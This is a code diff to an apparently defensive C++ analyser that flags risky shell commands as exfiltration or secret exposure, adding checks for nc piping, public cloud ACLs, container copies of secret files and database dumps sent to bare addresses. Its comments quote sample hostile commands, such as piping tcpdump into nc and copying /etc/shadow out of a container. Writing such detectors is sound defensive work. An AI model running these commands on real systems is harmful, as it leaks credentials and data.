@@ -235,6 +235,14 @@ void sockets(const Call& call, Dangers& dangers) {
     });
     if (file || sends_files(call))
       return dangers.push_back({network_asks, "exfiltration", "sends away what it reads from files"});
+    // tcpdump -w - | nc HOST 80; echo GET / | nc HOST 80 says all that it sends.
+    const Range input = call.scene.command.input;
+    const bool near = std::any_of(call.operands.begin(), call.operands.end(), [](const Operand& operand) {
+      const bool port = operand.text().find_first_not_of("0123456789") == std::string::npos;
+      return !port && is_near(operand.text());
+    });
+    if (!input.empty() && !near && origin_of(call.scene.script, input) < Origin::none)
+      return dangers.push_back({network_asks, "exfiltration", "sends away what other programs print"});
   }
   if (call.is("socat")) {
     for (const Operand& operand : call.operands) {
@@ -304,6 +312,8 @@ void copies(const Call& call, Dangers& dangers) {
     dangers.push_back({network_asks, "exfiltration", "sends keys or passwords away"});
   }
   if (call.is("scp rsync") || cloud) copies_personal(call, to_remote, dangers);
+  if (cloud && (call.value("--acl").starts_with("public") || call.value("-a").starts_with("public")))
+    dangers.push_back({network_asks, "exfiltration", "lets everyone read what it stores"});
   // skopeo copy SOURCE docker://REGISTRY/IMAGE
   if (call.is("skopeo") && call.has("copy sync") && !call.operands.empty() &&
       call.operands.back().text().starts_with("docker://")) {
@@ -442,6 +452,20 @@ void messages(const Call& call, Dangers& dangers) {
   }
 }
 
+void from_containers_and_databases(const Call& call, Dangers& dangers) {
+  // docker cp CONTAINER:/etc/shadow .
+  if (call.is("docker podman nerdctl kubectl k oc") && call.has("cp")) {
+    for (const Operand& operand : call.operands) {
+      if (!is_secret_file(operand.text().substr(operand.text().find(':') + 1))) continue;
+      dangers.push_back({network_asks, "secret_exposure", "copies a file that holds keys or passwords"});
+      break;
+    }
+  }
+  // pg_dump | psql -h ADDRESS
+  if (is_database_client(call) && !call.scene.command.input.empty() && is_bare_address(call.value("-h --host")))
+    dangers.push_back({network_asks, "exfiltration", "sends what it reads to an address without a name"});
+}
+
 }  // namespace
 
 void judge_network(const Call& call, Dangers& dangers) {
@@ -466,6 +490,7 @@ void judge_network(const Call& call, Dangers& dangers) {
   }
   containers(call, dangers);
   hands_over_script(call, dangers);
+  from_containers_and_databases(call, dangers);
   if (call.is("dig") && call.has("axfr AXFR"))
     dangers.push_back({network_asks, "exfiltration", "asks for all names of a domain"});
   if (call.is("dig nslookup host ping drill kdig")) {
